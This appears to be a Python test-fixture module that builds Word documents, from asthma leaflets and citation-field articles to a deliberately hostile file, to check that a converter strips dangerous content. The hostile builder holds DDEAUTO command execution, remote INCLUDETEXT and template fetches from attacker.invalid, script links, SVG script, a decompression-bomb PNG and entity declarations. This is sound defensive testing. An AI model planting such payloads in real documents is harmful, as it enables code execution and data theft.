# ruff: noqa: E501  (raw WordprocessingML reads better unbroken)
"""Word documents made by the tests themselves: python-docx for the package and what it has an
API for, raw WordprocessingML for the rest (numbering levels, footnotes, endnotes, tracked
changes, comments, text boxes, fields, hidden text, citation fields, hostile parts).

Each builder returns the .docx bytes and what a reader must find of it in the book, in order.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from xml.sax.saxutils import escape, quoteattr

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.shared import Inches, Pt
from PIL import Image

W = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"
# Text that looks like the dialect's syntax; it must reach every edition as typed.
HOSTILE_TEXT = (
    "# not a heading <b>not bold</b> [@smith2020] $x$ ^[no note] ~~kept~~ "
    "::: {.key-points} \\newpage @fig:x | pipe"
)


def run(
    text: str,
    bold: bool = False,
    size: int | None = None,
    hidden: bool = False,
    italic: bool = False,
    vertical: str | None = None,
) -> str:
    """One run of text with direct formatting."""
    props = ""
    if bold:
        props += "<w:b/>"
    if italic:
        props += "<w:i/>"
    if hidden:
        props += "<w:vanish/>"
    if size:
        props += f'<w:sz w:val="{size * 2}"/>'
    if vertical:
        props += f'<w:vertAlign w:val="{vertical}"/>'
    rpr = f"<w:rPr>{props}</w:rPr>" if props else ""
    return f'<w:r>{rpr}<w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def field_runs(instruction: str, result: str) -> str:
    """A complex field: its instruction and the result Word showed."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{escape(instruction)}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"{run(result)}"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def png(width: int = 60, height: int = 40, colour: tuple[int, int, int] = (30, 90, 160)) -> bytes:
    """A small PNG picture."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, "PNG")
    return out.getvalue()


def bomb_png() -> bytes:
    """A PNG whose header claims 30000 × 30000 pixels (a decompression bomb's header)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


@dataclass
class Expected:
    """What the book must show of the document, each kind in reading order."""

    headings: list[str] = field(default_factory=list)
    items: list[str] = field(default_factory=list)
    cells: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    alts: list[str] = field(default_factory=list)
    texts: list[str] = field(default_factory=list)  # other paragraphs, in order
    absent: list[str] = field(default_factory=list)  # in no manuscript file and no edition
    unlogged: list[str] = field(default_factory=list)  # not even quoted in IMPORT.md


class Builder:
    """A python-docx document plus the raw parts python-docx has no API for."""

    def __init__(self) -> None:
        self.doc = docx.Document()
        self.footnotes: list[str] = []
        self.endnotes: list[str] = []
        self.comments: list[tuple[str, str]] = []
        self.parts: dict[str, bytes] = {}
        self.rels: list[tuple[str, str, str, bool]] = []
        self.types: dict[str, str] = {}
        self.main_type: str | None = None
        self.settings_rels: list[tuple[str, str, str]] = []
        self.numbering: list[str] = []
        props = self.doc.core_properties
        props.author = ""
        props.comments = ""
        props.created = dt.datetime(2026, 3, 2, 9, 0, 0)
        props.modified = dt.datetime(2026, 3, 9, 9, 0, 0)

    def raw(self, inner: str, style: str | None = None, extra_ppr: str = "") -> None:
        """A paragraph of raw runs, optionally styled (style id)."""
        style_xml = f'<w:pStyle w:val="{style}"/>' if style else ""
        ppr = f"<w:pPr>{style_xml}{extra_ppr}</w:pPr>" if style_xml or extra_ppr else ""
        self.doc.element.body.append(parse_xml(f"<w:p {W}>{ppr}{inner}</w:p>"))
        self._sect_last()

    def _sect_last(self) -> None:
        body = self.doc.element.body
        sect = body.find("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}sectPr")
        if sect is not None:
            body.remove(sect)
            body.append(sect)

    def list_item(self, text: str, num_id: int, level: int = 0) -> None:
        """A paragraph of a Word list (numbering instance `num_id`, level `level`)."""
        self.raw(
            run(text),
            "ListParagraph",
            f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{num_id}"/></w:numPr>',
        )

    def add_numbering(self, num_id: int, levels: list[tuple[str, str, int]]) -> None:
        """A numbering definition: per level (format, text, start)."""
        lvls = "".join(
            f'<w:lvl w:ilvl="{i}"><w:start w:val="{start}"/><w:numFmt w:val="{fmt}"/>'
            f'<w:lvlText w:val="{text}"/><w:lvlJc w:val="left"/>'
            f'<w:pPr><w:ind w:left="{720 * (i + 1)}" w:hanging="360"/></w:pPr></w:lvl>'
            for i, (fmt, text, start) in enumerate(levels)
        )
        numbering = self.doc.part.numbering_part.element
        numbering.insert(
            0, parse_xml(f'<w:abstractNum {W} w:abstractNumId="{num_id}">{lvls}</w:abstractNum>')
        )
        numbering.append(
            parse_xml(f'<w:num {W} w:numId="{num_id}"><w:abstractNumId w:val="{num_id}"/></w:num>')
        )

    def footnote(self, text: str, endnote: bool = False) -> str:
        """A footnote (or endnote) reference run; the note's text goes to its part."""
        notes = self.endnotes if endnote else self.footnotes
        notes.append(text)
        kind = "endnote" if endnote else "footnote"
        return f'<w:r><w:{kind}Reference w:id="{len(notes)}"/></w:r>'

    def hyperlink(self, url: str, text: str) -> str:
        """A hyperlink run to an external address."""
        rid = self.doc.part.relate_to(url, RT.HYPERLINK, is_external=True)
        return f'<w:hyperlink r:id="{rid}">{run(text)}</w:hyperlink>'

    def picture(
        self, data: bytes, alt: str, caption: str | None = None, style: str = "Caption"
    ) -> None:
        """A picture in its own paragraph with alt text, and a caption paragraph under it."""
        self.doc.add_picture(io.BytesIO(data), width=Inches(1.5))
        docpr = list(
            self.doc.element.body.iter(
                "{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}docPr"
            )
        )[-1]
        if alt:
            docpr.set("descr", alt)
        if caption is not None:
            if style:
                self.doc.add_paragraph(caption, style=style)
            else:
                self.doc.add_paragraph(caption)

    def text_box(self, before: str, box_text: str, after: str) -> None:
        """A paragraph anchoring a text box (stored twice, as Word does: DrawingML and VML)."""
        content = f"<w:txbxContent><w:p>{run(box_text)}</w:p></w:txbxContent>"
        drawing = (
            '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing>'
            '<wp:anchor distT="0" distB="0" distL="0" distR="0" simplePos="0" relativeHeight="1" '
            'behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1"><wp:simplePos x="0" y="0"/>'
            '<wp:positionH relativeFrom="column"><wp:posOffset>0</wp:posOffset></wp:positionH>'
            '<wp:positionV relativeFrom="paragraph"><wp:posOffset>0</wp:posOffset></wp:positionV>'
            '<wp:extent cx="1800000" cy="600000"/><wp:wrapSquare wrapText="bothSides"/>'
            '<wp:docPr id="77" name="Text Box 1"/><a:graphic><a:graphicData '
            'uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp>'
            f"<wps:txbx>{content}</wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic>"
            "</wp:anchor></w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox>"
            f"{content}</v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
        )
        self.raw(run(before) + drawing + run(after))

    def save(self) -> bytes:
        """The .docx bytes, with the raw parts added."""
        out = io.BytesIO()
        self.doc.save(out)
        return self._with_parts(out.getvalue())

    def _notes_xml(self, kind: str, notes: list[str]) -> bytes:
        body = "".join(
            f'<w:{kind} w:id="{i}"><w:p><w:r><w:{kind}Ref/></w:r>{run(" " + text)}</w:p></w:{kind}>'
            for i, text in enumerate(notes, start=1)
        )
        separator = f'<w:{kind} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{kind}>'
        return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{kind}s {W}>{separator}{body}</w:{kind}s>'.encode()

    def _with_parts(self, data: bytes) -> bytes:
        parts = dict(self.parts)
        rels = list(self.rels)
        types = dict(self.types)
        for kind, notes in (("footnote", self.footnotes), ("endnote", self.endnotes)):
            if notes:
                parts[f"word/{kind}s.xml"] = self._notes_xml(kind, notes)
                rels.append((f"rIdX{kind}", f"{kind}s", f"{kind}s.xml", False))
                types[f"word/{kind}s.xml"] = f"{CT}.{kind}s+xml"
        if self.comments:
            body = "".join(
                f'<w:comment w:id="{i}" w:author={quoteattr(author)} w:date="2026-03-01T10:00:00Z">'
                f"<w:p>{run(text)}</w:p></w:comment>"
                for i, (author, text) in enumerate(self.comments)
            )
            parts["word/comments.xml"] = (
                f'<?xml version="1.0" encoding="UTF-8"?><w:comments {W}>{body}</w:comments>'.encode()
            )
            rels.append(("rIdXcomments", "comments", "comments.xml", False))
            types["word/comments.xml"] = f"{CT}.comments+xml"
        source = zipfile.ZipFile(io.BytesIO(data))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for info in source.infolist():
                content = source.read(info.filename)
                if info.filename == "word/_rels/document.xml.rels":
                    extra = "".join(
                        f'<Relationship Id="{i}" Type="{REL}{t}" Target={quoteattr(target)}'
                        + (' TargetMode="External"' if external else "")
                        + "/>"
                        for i, t, target, external in rels
                    )
                    content = content.replace(
                        b"</Relationships>", extra.encode() + b"</Relationships>"
                    )
                if info.filename == "[Content_Types].xml":
                    extra = "".join(
                        f'<Override PartName="/{p}" ContentType="{c}"/>' for p, c in types.items()
                    )
                    content = content.replace(b"</Types>", extra.encode() + b"</Types>")
                    if self.main_type:
                        content = content.replace(
                            f"{CT}.document.main+xml".encode(), self.main_type.encode()
                        )
                if info.filename == "word/settings.xml" and self.settings_rels:
                    content = content.replace(
                        b"<w:zoom", b'<w:attachedTemplate r:id="rIdTpl"/><w:zoom', 1
                    )
                archive.writestr(info, content)
            for name, content in parts.items():
                archive.writestr(name, content)
            if self.settings_rels:
                entries = "".join(
                    f'<Relationship Id="{i}" Type="{REL}{t}" Target={quoteattr(target)} TargetMode="External"/>'
                    for i, t, target in self.settings_rels
                )
                archive.writestr(
                    "word/_rels/settings.xml.rels",
                    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{entries}</Relationships>',
                )
        return out.getvalue()


def styled_leaflet() -> tuple[bytes, Expected]:
    """A clinic leaflet written with Word's styles."""
    b = Builder()
    exp = Expected()
    props = b.doc.core_properties
    props.author = "Riverside Clinic Respiratory Team"
    props.keywords = "asthma; inhaler; children"
    props.language = "en-GB"
    b.doc.add_paragraph("Asthma in children", style="Title")
    b.doc.add_paragraph("A guide for parents and carers", style="Subtitle")
    b.doc.sections[0].header.paragraphs[0].text = "Riverside Clinic RUNNING-HEADER"
    b.doc.sections[0].footer.paragraphs[0].text = "Leaflet RC-12 RUNNING-FOOTER"
    exp.absent += ["RUNNING-HEADER", "RUNNING-FOOTER", "HIDDEN-NOTE"]
    exp.unlogged.append("HIDDEN-NOTE")
    b.doc.add_heading("What is asthma?", level=1)
    exp.headings.append("What is asthma?")
    b.raw(
        run("Asthma is a ")
        + run("common", bold=True)
        + run(" condition of the airways. About 1 in 11 children has it")
        + b.footnote("Figures from the 2025 national survey.")
        + run(". Oxygen is O")
        + run("2", vertical="subscript")
        + run(" and 10")
        + run("3", vertical="superscript")
        + run(" is a thousand; take 10\u00a0mg")
        + run(" HIDDEN-NOTE", hidden=True)
        + run(".")
    )
    exp.texts.append("Asthma is a common condition of the airways.")
    exp.notes.append("Figures from the 2025 national survey.")
    b.doc.add_heading("Signs to look for", level=2)
    exp.headings.append("Signs to look for")
    b.add_numbering(90, [("bullet", "•", 1), ("bullet", "o", 1)])
    for text, level in (
        ("Coughing at night", 0),
        ("Wheezing", 0),
        ("A whistling sound", 1),
        ("Shortness of breath", 0),
    ):
        b.list_item(text, 90, level)
        exp.items.append(text)
    b.doc.add_heading("Using the inhaler", level=2)
    exp.headings.append("Using the inhaler")
    b.add_numbering(91, [("decimal", "%1.", 3), ("lowerLetter", "%2)", 1)])
    for text, level in (
        ("Shake the inhaler", 0),
        ("Breathe out gently", 0),
        ("Not into the spacer", 1),
        ("Press once and breathe in slowly", 0),
    ):
        b.list_item(text, 91, level)
        exp.items.append(text)
    b.picture(
        png(),
        "A blue metered-dose inhaler attached to a clear spacer",
        "Figure 1. An inhaler with a spacer",
    )
    exp.alts.append("A blue metered-dose inhaler attached to a clear spacer")
    exp.texts.append("An inhaler with a spacer")
    # Word's own guess at a description is not the author's alt text.
    b.picture(
        png(colour=(200, 60, 60)),
        "A red rectangle. Description automatically generated",
        "Figure 2: A peak flow chart",
    )
    exp.absent.append("Description automatically generated")
    b.doc.styles.add_style("Key Points", 1)
    b.doc.add_paragraph("Always carry the reliever inhaler.", style="Key Points")
    b.doc.add_paragraph("Book a review every year.", style="Key Points")
    exp.texts += ["Always carry the reliever inhaler.", "Book a review every year."]
    b.doc.add_heading("Doses", level=1)
    exp.headings.append("Doses")
    b.doc.add_paragraph("Table 1: Reliever doses by age", style="Caption")
    table = b.doc.add_table(rows=3, cols=3)
    rows = [
        ("Age", "Puffs", "How often"),
        ("5 to 11", "2", "when needed"),
        ("12 and over", "2 to 4", "when needed"),
    ]
    for row, values in zip(table.rows, rows, strict=True):
        for cell, value in zip(row.cells, values, strict=True):
            cell.text = value
            exp.cells.append(value)
    exp.texts.append("Reliever doses by age")
    b.text_box("Before the box.", "In an emergency call 999.", " After the box.")
    exp.texts += ["Before the box.", "After the box.", "In an emergency call 999."]
    b.raw(run(HOSTILE_TEXT))
    exp.texts.append(HOSTILE_TEXT)
    b.doc.styles.add_style("Clinic Contact", 1)
    b.raw(
        run("Questions? Call 01234 567890, write to ")
        + b.hyperlink("mailto:asthma@riverside.example", "our nurses")
        + run(" or read ")
        + b.hyperlink("https://www.nhs.uk/conditions/asthma/", "the NHS page")
        + run(".")
        + b.footnote("Open weekdays 9 to 5.", endnote=True),
        "ClinicContact",
    )
    exp.links += ["mailto:asthma@riverside.example", "https://www.nhs.uk/conditions/asthma/"]
    exp.notes.append("Open weekdays 9 to 5.")
    exp.texts.append("Questions? Call 01234 567890")
    return b.save(), exp


def direct_leaflet() -> tuple[bytes, Expected]:
    """The same kind of leaflet written with direct formatting only: no styles at all."""
    b = Builder()
    exp = Expected()
    b.raw(run("Asthma in children", bold=True, size=20))
    b.raw("")
    b.raw(run("What is asthma?", bold=True, size=14))
    exp.headings.append("What is asthma?")
    b.raw(run("Asthma is a common condition of the airways. It can be controlled."))
    exp.texts.append("Asthma is a common condition of the airways.")
    b.raw("")
    b.raw("")
    b.raw(run("Signs to look for", bold=True, size=12))
    exp.headings.append("Signs to look for")
    for text in ("Coughing at night", "Wheezing", "Shortness of breath"):
        b.raw(run("•") + "<w:r><w:tab/></w:r>" + run(text))
        exp.items.append(text)
    b.raw(run("_" * 40))
    b.raw(run("Using the inhaler", bold=True, size=12))
    exp.headings.append("Using the inhaler")
    for number, text in enumerate(
        ("Shake the inhaler", "Breathe out gently", "Press once and breathe in"), start=1
    ):
        b.raw(run(f"{number}.") + "<w:r><w:tab/></w:r>" + run(text))
        exp.items.append(text)
    b.raw(run("-" * 30))
    b.raw(run("Doses", bold=True, size=14))
    exp.headings.append("Doses")
    b.raw(run("Table 1: Reliever doses by age"))
    table = b.doc.add_table(rows=2, cols=2)
    for row, values in zip(table.rows, [("Age", "Puffs"), ("5 to 11", "2")], strict=True):
        for cell, value in zip(row.cells, values, strict=True):
            cell.text = value
            exp.cells.append(value)
    exp.texts.append("Reliever doses by age")
    b.picture(png(), "A blue inhaler", "Figure 1. The inhaler", style="")
    exp.alts.append("A blue inhaler")
    b.raw(run("Call 999 if the inhaler does not help within 10 minutes."))
    exp.texts.append("Call 999 if the inhaler does not help within 10 minutes.")
    for paragraph in b.doc.paragraphs:
        for r in paragraph.runs:
            if r.font.size is None:
                r.font.size = Pt(11)
    return b.save(), exp


UNFINISHED_PARAGRAPH = "Give two puffs of the reliever"


def unfinished_leaflet() -> tuple[bytes, Expected]:
    """A leaflet under review: a tracked insertion and deletion, and an open comment."""
    b = Builder()
    exp = Expected()
    b.doc.add_paragraph("Reliever inhaler", style="Title")
    b.doc.add_heading("How much to give", level=1)
    exp.headings.append("How much to give")
    b.raw(run("Shake the inhaler before each puff."))
    b.raw(
        run(UNFINISHED_PARAGRAPH + " ")
        + '<w:ins w:id="11" w:author="Dr Ann Lee" w:date="2026-03-01T09:00:00Z">'
        + run("INSERTED-WORDS ")
        + "</w:ins>"
        + '<w:del w:id="12" w:author="Dr Ann Lee" w:date="2026-03-01T09:00:00Z">'
        + '<w:r><w:delText xml:space="preserve">DELETED-WORDS </w:delText></w:r></w:del>'
        + '<w:commentRangeStart w:id="0"/>'
        + run("every four hours.")
        + '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'
    )
    b.comments.append(("Nurse Bo Chan", "Check this dose with the pharmacist"))
    exp.texts.append(UNFINISHED_PARAGRAPH)
    return b.save(), exp


def _zotero(items: list[dict[str, object]], shown: str, locator: str | None = None) -> str:
    cite = {
        "citationID": f"c{zlib.crc32(shown.encode())}",
        "properties": {"formattedCitation": shown, "plainCitation": shown},
        "citationItems": [
            {
                "id": item["id"],
                "uris": [f"http://zotero.org/users/1/items/{item['id']}"],
                "itemData": item,
            }
            | ({"locator": locator, "label": "page"} if locator else {})
            for item in items
        ],
        "schema": "https://github.com/citation-style-language/schema/raw/master/csl-citation.json",
    }
    return field_runs(" ADDIN ZOTERO_ITEM CSL_CITATION " + json.dumps(cite) + " ", shown)


SMITH = {
    "id": 101,
    "type": "article-journal",
    "title": "Magnesium and <i>asthma</i> control",
    "container-title": "Thorax",
    "author": [{"family": "Smith", "given": "Jane"}],
    "issued": {"date-parts": [[2020]]},
    "volume": "75",
    "page": "1-10",
}
JONES = {
    "id": 102,
    "type": "book",
    "title": "Breathing well",
    "publisher": "Clinic Press",
    "author": [{"family": "Jones", "given": "Alan"}],
    "issued": {"date-parts": [[2019]]},
}
NG = {
    "id": "m-7",
    "type": "report",
    "title": "Inhaler technique audit",
    "author": [{"family": "Ng", "given": "Mei"}],
    "issued": {"date-parts": [[2021]]},
}


def cited_article() -> tuple[bytes, Expected]:
    """An article whose citations were inserted with Zotero and Mendeley, two chapters long."""
    b = Builder()
    exp = Expected()
    b.doc.core_properties.title = "Inhalers in primary care"
    b.doc.core_properties.author = "Dr Jane Roe"
    b.doc.add_heading("Background", level=1)
    exp.headings.append("Background")
    b.raw(
        run("Magnesium may help ")
        + _zotero([SMITH], "(Smith, 2020)")
        + run(" and breathing exercises too ")
        + _zotero([JONES, SMITH], "(Jones, 2019; Smith, 2020)")
        + run(".")
    )
    exp.texts.append("Magnesium may help")
    b.raw(run("An older study is cited by number [3] typed by hand."))
    b.doc.add_heading("Technique", level=1)
    exp.headings.append("Technique")
    mendeley = {
        "citationID": "mx",
        "citationItems": [{"id": "m-7", "itemData": NG}],
        "mendeley": {"formattedCitation": "(Ng, 2021)"},
    }
    b.raw(
        run("Technique matters ")
        + field_runs(" ADDIN CSL_CITATION " + json.dumps(mendeley) + " ", "(Ng, 2021)")
        + run(", as shown on page 4 ")
        + _zotero([SMITH], "(Smith, 2020, p. 4)", "4")
        + run(".")
    )
    exp.texts.append("Technique matters")
    b.doc.add_heading("References", level=1)
    b.raw(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ADDIN ZOTERO_BIBL {"uncited":[]} CSL_BIBLIOGRAPHY </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("TYPED-BIBLIOGRAPHY Smith J. Magnesium.")
    )
    b.raw(run("Jones A. Breathing well.") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    exp.absent.append("TYPED-BIBLIOGRAPHY")
    exp.texts += ["Smith", "Jones", "Ng"]
    return b.save(), exp


def hostile_document() -> tuple[bytes, Expected]:
    """A document that tries everything a Word file can: links out, fields that fetch or run,
    an OLE object, embedded HTML, macros, fonts, a remote template, bad pictures."""
    b = Builder()
    exp = Expected()
    b.main_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    b.doc.add_paragraph("Hostile", style="Title")
    b.doc.add_heading("Links", level=1)
    exp.headings.append("Links")
    for url in (
        "javascript:alert('JS-LINK')",
        "file:///etc/passwd",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
    ):
        b.raw(run("Click ") + b.hyperlink(url, "here-" + url[:4]) + run(" please."))
    exp.absent += ["javascript:", "file:", "data:text", "vbscript:", "JS-LINK"]
    b.raw(field_runs(' HYPERLINK "file:///C:/secret.docx" ', "field link text"))
    # A simple field to a bookmark: pandoc drops such a field's text unless it is rewritten.
    b.raw(
        '<w:fldSimple w:instr=\' HYPERLINK "file:///etc/passwd" \\l "nowhere" \'>'
        + run("Bookmark link text stays.")
        + "</w:fldSimple>"
    )
    exp.texts.append("Bookmark link text stays.")
    b.doc.add_heading("Fields", level=1)
    exp.headings.append("Fields")
    b.raw(
        run("Included: ")
        + field_runs(' INCLUDETEXT "http://attacker.invalid/x.txt" ', "INCLUDED-SECRET")
    )
    b.raw(
        run("Picture: ")
        + field_runs(' INCLUDEPICTURE "http://attacker.invalid/p.png" \\d ', "PICTURE-RESULT")
    )
    b.raw(run("Run: ") + field_runs(' DDEAUTO "cmd" "/c calc" ', "DDE-RESULT"))
    b.raw(run("Macro: ") + field_runs(" MACROBUTTON Evil MACRO-TEXT ", ""))
    b.raw(run("Hidden: ") + run("HIDDEN-SECRET", hidden=True) + run("end."))
    exp.absent += [
        "INCLUDED-SECRET",
        "PICTURE-RESULT",
        "DDE-RESULT",
        "MACRO-TEXT",
        "HIDDEN-SECRET",
        "attacker.invalid",
    ]
    b.doc.add_heading("Objects", level=1)
    exp.headings.append("Objects")
    b.rels += [
        ("rIdLinked", "image", "http://attacker.invalid/track.png", True),
        ("rIdOle", "oleObject", "embeddings/oleObject1.bin", False),
        ("rIdOlePic", "image", "media/ole.png", False),
        ("rIdChunk", "aFChunk", "afchunk.htm", False),
        ("rIdVba", "vbaProject", "vbaProject.bin", False),
        ("rIdBomb", "image", "media/bomb.png", False),
        ("rIdSvg", "image", "media/evil.svg", False),
        ("rIdSub", "subDocument", "http://attacker.invalid/sub.docx", True),
    ]
    b.parts.update(
        {
            "word/embeddings/oleObject1.bin": b"OLE-PAYLOAD",
            "word/media/ole.png": png(10, 10),
            "word/afchunk.htm": b"<html><body><script>alert('ALTCHUNK')</script>ALTCHUNK-TEXT</body></html>",
            "word/vbaProject.bin": b"VBA-PAYLOAD",
            "word/fonts/font1.odttf": b"FONT-PAYLOAD",
            "word/media/bomb.png": bomb_png(),
            "word/media/evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("SVG-SCRIPT")</script></svg>',
        }
    )
    b.types.update(
        {
            "word/afchunk.htm": "application/xhtml+xml",
            "word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
        }
    )
    exp.absent += [
        "OLE-PAYLOAD",
        "ALTCHUNK",
        "VBA-PAYLOAD",
        "FONT-PAYLOAD",
        "SVG-SCRIPT",
        "<script",
    ]

    def blip(attribute: str, ident: str, name: str) -> str:
        return (
            '<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="600000"/>'
            f'<wp:docPr id="{zlib.crc32(name.encode()) % 1000 + 10}" name="{name}" descr="{name} picture"/><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
            f'<pic:nvPicPr><pic:cNvPr id="1" name="{name}"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {attribute}="{ident}"/></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="600000"/></a:xfrm>'
            '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
            "</wp:inline></w:drawing></w:r>"
        )

    b.raw(run("Linked: ") + blip("r:link", "rIdLinked", "linked"))
    b.raw(run("Bomb: ") + blip("r:embed", "rIdBomb", "bomb"))
    b.raw(run("Script: ") + blip("r:embed", "rIdSvg", "svg"))
    b.raw(
        run("Object: ")
        + '<w:r><w:object><v:shape id="ole1"><v:imagedata r:id="rIdOlePic"/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdOle"/></w:object></w:r>'
    )
    b.doc.element.body.append(parse_xml(f'<w:altChunk {W} r:id="rIdChunk"/>'))
    b.raw(run("Subdocument: ") + '<w:subDoc r:id="rIdSub"/>')
    b.settings_rels.append(("rIdTpl", "attachedTemplate", "http://attacker.invalid/template.dotm"))
    b.raw(run(HOSTILE_TEXT))
    exp.texts.append(HOSTILE_TEXT)
    b.raw(run("The end of a hostile document."))
    exp.texts.append("The end of a hostile document.")
    return b.save(), exp


def with_entities() -> bytes:
    """A document whose main part declares entities (the billion laughs' first step)."""
    b = Builder()
    b.doc.add_paragraph("x")
    data = b.save()
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "word/document.xml":
                content = content.replace(
                    b"<w:document",
                    b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><w:document',
                    1,
                )
            archive.writestr(info, content)
    return out.getvalue()
